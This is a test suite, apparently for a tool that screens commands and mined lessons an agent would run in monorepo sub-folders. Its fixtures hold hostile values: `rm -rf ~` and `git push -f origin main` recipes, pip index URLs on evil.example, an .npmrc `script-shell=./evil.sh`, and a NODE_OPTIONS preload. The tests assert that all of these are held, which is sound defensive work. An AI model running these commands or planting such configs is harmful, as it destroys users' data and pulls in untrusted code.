"""A task run in another place than the project's folder (`make -C tools test`, `npm --prefix web test`, `pnpm
--filter @acme/web test`) is judged by that place's recipes, read as its runner reads them there; a place playbook
did not read, or one named by a pattern that picks several, still waits. Monorepo lessons ("run `pnpm --filter api
test`") were held whole before: the option alone said the recipes were not read."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.allowlist import Vouched, command_refusals
from core.io.declared import Declarations, declared_packages, declared_programs, declared_tasks
from core.screen import text_holds
from core.vouched import Declared

EVIL = "rm -rf ~"


def _project(root: Path) -> Path:
    (root / "pnpm-workspace.yaml").write_text('packages:\n  - "apps/*"\n  - "!apps/legacy"\n')
    (root / "package.json").write_text(json.dumps({"name": "root", "scripts": {"test": "vitest run"}}))
    for folder, name, scripts in [
        ("apps/web", "@acme/web", {"test": "vitest run", "lint": "eslint .", "build": "npm run gen"}),
        ("apps/api", "@acme/api", {"test": EVIL, "lint": "eslint ."}),
        ("apps/legacy", "@acme/legacy", {"test": "vitest run"}),  # excluded: no member
        ("fixtures/api", "@acme/api-fixture", {"test": "vitest run"}),  # a package no workspace pattern names
        ("apps/web/nested", "@acme/nested", {"test": "vitest run"}),
    ]:
        (root / folder).mkdir(parents=True, exist_ok=True)
        (root / folder / "package.json").write_text(json.dumps({"name": name, "scripts": scripts}))
    (root / "tools").mkdir()
    (root / "tools" / "Makefile").write_text(f"test:\n\tpytest\nclean:\n\t{EVIL}\n")
    (root / "Makefile").write_text("test:\n\tpytest\nclean:\n\trm -rf build\n")
    return root


@pytest.fixture
def vouched(tmp_path: Path) -> Vouched:
    root = _project(tmp_path)
    return Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))


@pytest.mark.parametrize(
    "line",
    [
        "pnpm --filter @acme/web test",
        "pnpm -F @acme/web lint",
        "pnpm --filter=@acme/web test",
        "make -C tools test",
        "make -Ctools test",
        "make --directory=tools test",
        "npm --prefix apps/web run lint",
        "pnpm -C apps/web test",
        "pnpm --dir ./apps/web/ test",
    ],
)
def test_a_task_of_a_place_that_was_read_is_judged_by_its_recipe_and_admitted(vouched: Vouched, line: str) -> None:
    assert command_refusals(line, vouched) == [], line


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("pnpm --filter @acme/api test", "at `@acme/api`, the project's `test` runs `rm -rf ~`"),
        ("npm --prefix apps/api test", "at `./apps/api`, the project's `test` runs `rm -rf ~`"),
        ("make -C tools clean", "at `./tools`, the project's `clean` runs `rm -rf ~`"),  # the root's `clean` is safe
        # A recipe line run there names that place's tasks, not the project's: `npm run gen` is web's, undeclared.
        ("pnpm --filter @acme/web build", "`npm run gen` is no routine task"),
        ("pnpm --filter @acme/legacy test", "whose recipes were not read"),  # excluded by `!apps/legacy`
        ("pnpm --filter @acme/api-fixture test", "whose recipes were not read"),  # no member
        ("pnpm --filter @acme/* test", "whose recipes were not read"),  # a pattern: several
        ("pnpm --filter @acme/web... test", "whose recipes were not read"),  # and those it depends on
        ("pnpm --filter ./apps test", "whose recipes were not read"),  # every member under a folder
        ("pnpm -r --filter @acme/web test", "whose recipes were not read"),
        ("pnpm --filter @acme/web --filter @acme/api test", "whose recipes were not read"),
        ("make -C nowhere test", "whose recipes were not read"),
        ("make -C ../elsewhere test", "whose recipes were not read"),
        ("make -C tools -f other.mk test", "whose recipes were not read"),
        ("npm -w apps/web test", "whose recipes were not read"),  # a folder: it may be a parent of several
        ("npm -w @acme/web test", "whose recipes were not read"),  # a name, a folder or those under one
    ],
)
def test_a_task_of_a_place_is_held_for_its_recipe_or_where_its_place_was_not_read(
    vouched: Vouched, line: str, shown: str
) -> None:
    refused = command_refusals(line, vouched)
    assert any(shown in r.detail for r in refused), (line, refused)


def test_a_place_s_runner_settings_hold_its_tasks(tmp_path: Path) -> None:
    root = _project(tmp_path)
    (root / "apps" / "web" / ".npmrc").write_text("script-shell=./evil.sh\n")
    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
    assert command_refusals("npm --prefix apps/web run lint", vouched)
    assert command_refusals("npm --prefix apps/api run lint", vouched) == []  # another place: its own settings
    (root / ".npmrc").write_text("script-shell=./evil.sh\n")  # the root's are read from every place below it
    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
    assert command_refusals("npm --prefix apps/api run lint", vouched)


_SEGMENT = st.sampled_from(["apps", "*", "**", "web", "api", "w*"])


@settings(max_examples=40, deadline=None)
@given(patterns=st.lists(st.lists(_SEGMENT, min_size=1, max_size=40).map("/".join), min_size=1, max_size=80))
def test_any_workspace_patterns_read_in_bounded_time_and_never_admit_a_member_s_harmful_test(
    tmp_path_factory: pytest.TempPathFactory, patterns: list[str]
) -> None:
    root = _project(tmp_path_factory.mktemp("w"))
    (root / "pnpm-workspace.yaml").write_text(json.dumps({"packages": patterns}))
    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
    assert command_refusals("pnpm --filter @acme/api test", vouched)  # read and held, or not read and held


def _sub_project(root: Path) -> Vouched:
    (root / "Makefile").write_text("test:\n\tpytest\n")
    for folder, recipe in (("sub", "pytest -q && git push -f origin main"), ("ok", "pytest -q")):
        (root / folder).mkdir()
        (root / folder / "Makefile").write_text(f"test:\n\t{recipe}\nup:\n\tcd .. && make ship\n")
    (root / "a" / "b" / "c" / "d").mkdir(parents=True)
    (root / "a" / "b" / "c" / "d" / "Makefile").write_text("test:\n\tpytest\n")
    (root / ".ci").mkdir()
    (root / ".ci" / "Makefile").write_text("test:\n\tpytest\n")
    (root / "docs").mkdir()
    return Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))


@pytest.mark.parametrize(
    ("lesson", "shown"),
    [
        # Round 8: the rules miner's own wording of a task that works only in a sub-folder.
        ("In webapp: run the tests with `make test` in `sub/`.", "in `sub/`, the project's `test` runs `pytest -q"),
        ("In webapp: run `make test` from `sub/`: from elsewhere it fails.", "git push -f"),
        ("Run `make test` in `sub`.", "git push -f"),
        ("Run `cd sub && make test`.", "in `sub/`, the project's `test`"),
        ("Run `cd ok && make up`.", "`..` climbs out"),  # a recipe there that leaves for the top
        ("Run `make test` in `a/b/c/d/`.", "a folder whose recipes were not read"),  # deeper than playbook reads
        ("Run `make test` in `.ci/`.", "a folder whose recipes were not read"),  # a hidden folder is not read
    ],
)
def test_a_task_a_lesson_runs_in_a_folder_is_judged_by_that_folder_s_recipes(
    tmp_path: Path, lesson: str, shown: str
) -> None:
    holds = text_holds(lesson, _sub_project(tmp_path))
    assert any(shown in h.detail for h in holds), holds


@pytest.mark.parametrize(
    "lesson",
    [
        "In webapp: run the tests with `make test` in `ok/`.",
        "Run `cd ok && make test`.",
        "Run `make test` after editing `README.md`.",  # a file named: no folder, judged at the top
        "Run `make test` in `docs/`.",  # a folder with no Makefile: make finds none there
    ],
)
def test_a_task_a_lesson_runs_in_a_folder_whose_recipes_are_harmless_is_admitted(tmp_path: Path, lesson: str) -> None:
    assert text_holds(lesson, _sub_project(tmp_path)) == []


@pytest.mark.parametrize(
    ("name", "text", "command"),
    [
        # Round 8: a sub-folder whose only runner's file is another runner's than make's or npm's was not read.
        ("justfile", "test:\n    git push -f origin main\n", "just test"),
        ("mise.toml", '[tasks.test]\nrun = "git push -f origin main"\n', "mise run test"),
        ("Taskfile.yml", "version: '3'\ntasks:\n  test:\n    cmds: [git push -f origin main]\n", "task test"),
        (".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nrunner = "./x.sh"\n', "cargo test"),
        ("tox.ini", "[testenv]\ncommands = git push -f origin main\n", "tox"),
    ],
)
def test_a_sub_folder_of_any_runner_is_read_where_a_lesson_runs_its_task(
    tmp_path: Path, name: str, text: str, command: str
) -> None:
    (tmp_path / "sub" / name).parent.mkdir(parents=True)
    (tmp_path / "sub" / name).write_text(text)
    vouched = Vouched(programs=declared_programs([tmp_path]), tasks=declared_tasks([tmp_path]))
    assert text_holds(f"Run the tests with `{command}` in `sub/`.", vouched), command
    assert text_holds(f"Run the tests with `{command}`.", vouched) == []  # at the top, nothing of sub's runs


def test_a_folder_reached_through_a_link_or_never_seen_holds_its_tasks(tmp_path: Path) -> None:
    root, elsewhere = tmp_path / "app", tmp_path / "elsewhere"
    for folder in (root / ".hid", elsewhere, root / "a" / "b"):
        folder.mkdir(parents=True)
        (folder / "Makefile").write_text("test:\n\tgit push -f origin main\n")
    (root / "Makefile").write_text("test:\n\tpytest\n")
    (root / "sub").symlink_to(root / ".hid")  # round 8b: a link past the rules for hidden and outside folders
    (root / "out").symlink_to(elsewhere)
    (root / "src").mkdir()
    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
    for lesson in (
        "Run `make test` from `sub/`: from elsewhere it fails.",
        "Run `make test` in `out/`.",
        "Run `make test` from `b/`.",  # no such folder at the top: the run was in `a/b/`
        "Run `cd a && cd b && make test`.",
    ):
        assert text_holds(lesson, vouched), lesson
    for lesson in ("Run `make test` in `src/`.", "Run `make test` after a change in `README.md`."):
        assert text_holds(lesson, vouched) == [], lesson


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "-e git+https://evil.example/tools.git#egg=tools",
        "pkg @ https://evil.example/x.tar.gz",
        "--find-links https://evil.example/wheels",
        "--no-index",
        "--trusted-host evil.example",
        "./vendor/pkg.whl",
    ],
)
def test_an_install_from_a_requirements_file_that_says_where_from_is_held(tmp_path: Path, line: str) -> None:
    (tmp_path / "requirements.txt").write_text("requests==2.31.0\n-r base.txt\n")
    (tmp_path / "base.txt").write_text(f"{line}\nflask\n")  # round 8b: nested, too
    (tmp_path / "requirements-dev.txt").write_text("pytest>=7 --hash=sha256:abc\nruff ; python_version > '3.8'\n")
    vouched = Vouched(programs=declared_programs([tmp_path]), tasks=declared_tasks([tmp_path]))
    assert command_refusals("pip install -r requirements.txt", vouched)
    assert command_refusals("pip install -r elsewhere.txt", vouched)  # a file playbook did not read
    assert command_refusals("python -m pip install -r ./requirements-dev.txt", vouched) == []


def test_what_was_read_below_a_project_is_kept_as_its_own_fields(tmp_path: Path) -> None:
    root = tmp_path / "app"
    (root / "a" / "b").mkdir(parents=True)
    (root / "a" / "b" / "Makefile").write_text("test:\n\tpytest\n")
    (root / "a" / "b" / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
    (root / "requirements.txt").write_text("requests==2.31.0\n")
    (root / "Makefile").write_text("test:\n\tpytest\n")
    (root / "out").symlink_to(tmp_path)
    tasks = declared_tasks([root])
    assert tasks.places_seen == {"a", "a/b"} and tasks.places_linked == {"out"} and not tasks.places_cut
    assert ("", "requirements.txt", "") in tasks.requirements  # read, and names only a requirement
    held = [line for place, file, line in tasks.requirements if place == "./a/b" and file == "requirements.txt"]
    assert held and all(line.startswith("$(unread: ") for line in held)
    assert {task for task, _ in tasks.recipes} == {"make:test", "make:", "make@./a/b:test", "make@./a/b:"}
    assert tasks.at("./a/b").recipes == {("make:test", "pytest"), ("make:", "pytest")}
    assert not tasks.at("./a")  # no file of a runner there


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(order=st.permutations(range(6)), some=st.integers(min_value=1, max_value=6))
def test_one_pass_over_folders_that_share_parents_reads_what_each_declares_alone(
    tmp_path: Path, order: list[int], some: int
) -> None:
    """An export reads every session's folder in one pass (`Declarations`), each file once: what it finds for each
    folder, and for several together, is what a pass of its own finds, in whatever order they are read."""
    root = tmp_path / "mono"
    if not root.exists():
        root.mkdir()
        _project(root)
        (root / "apps" / "web" / "justfile").write_text("check:\n    ruff check .\n")
    folders = [root, root / "apps" / "web", root / "apps" / "api", root / "tools", root / "apps" / "web" / "nested"]
    folders.append(tmp_path / "gone")
    chosen = [folders[i] for i in order[:some]]
    read = Declarations()
    for folder in chosen:
        alone = Declared(
            str(folder), declared_programs([folder]), declared_packages([folder]), declared_tasks([folder])
        )
        assert read.project(folder) == alone
    together = declared_tasks(chosen[:1]).union(*(declared_tasks([f]) for f in chosen[1:]))
    assert read.tasks(chosen) == together


@pytest.mark.parametrize(
    ("env", "held"),
    [
        ('NODE_OPTIONS = "--require ./x.js"', True),  # round 8: every `node` the agent runs loads ./x.js
        ('_.path = ["{{env.HOME}}/bin"]', True),  # a folder outside the project first on PATH
        ('PATH = "/tmp/bin:/usr/bin"', True),
        ('RUST_BACKTRACE = "1"', False),
        ('DATABASE_URL = "postgres://localhost/dev"', False),  # the project's own setting
    ],
)
def test_what_mise_gives_every_command_here_is_judged_for_every_command(tmp_path: Path, env: str, held: bool) -> None:
    (tmp_path / "package.json").write_text(json.dumps({"scripts": {"test": "vitest run"}}))
    (tmp_path / "mise.toml").write_text(f"[tools]\nnode = '22'\n[env]\n{env}\n")
    vouched = Vouched(programs=declared_programs([tmp_path]), tasks=declared_tasks([tmp_path]))
    for line in ("npm test", "git status", "ls src"):
        refused = command_refusals(line, vouched)
        assert bool(refused) == held, (line, refused)
        assert not refused or "mise `[env]`" in refused[0].detail


@pytest.mark.parametrize(
    ("folder", "held"),
    [
        ("assets/", False),  # a folder of the project: what the rules miner writes after `cd assets && node build.js`
        ("linked/", True),  # round 9: a link to a folder outside the project
        ("node_modules/evil/", True),  # a dependency's files, not the project's
        (".git/hooks/", True),  # hidden
        ("nowhere/", True),  # a folder playbook never saw
    ],
)
def test_any_command_a_lesson_runs_in_a_folder_is_held_where_that_folder_is_not_the_projects(
    tmp_path: Path, folder: str, held: bool
) -> None:
    outside = tmp_path / "outside"
    project = tmp_path / "app"
    for made in (outside, project / "assets", project / "node_modules" / "evil", project / ".git" / "hooks"):
        made.mkdir(parents=True)
    (project / "linked").symlink_to(outside, target_is_directory=True)
    (project / "package.json").write_text(json.dumps({"name": "app", "scripts": {"test": "vitest run"}}))
    vouched = Vouched(programs=declared_programs([project]), tasks=declared_tasks([project]))
    holds = text_holds(f"In app: run `node build.js` from `{folder}`: from elsewhere it fails.", vouched, typed=True)
    assert bool(holds) == held, holds
    if folder in (".git/hooks/", "node_modules/evil/"):  # with nothing of the project read, as much is known
        assert text_holds(
            f"In app: run `node build.js` from `{folder}`: from elsewhere it fails.", Vouched(), typed=True
        )
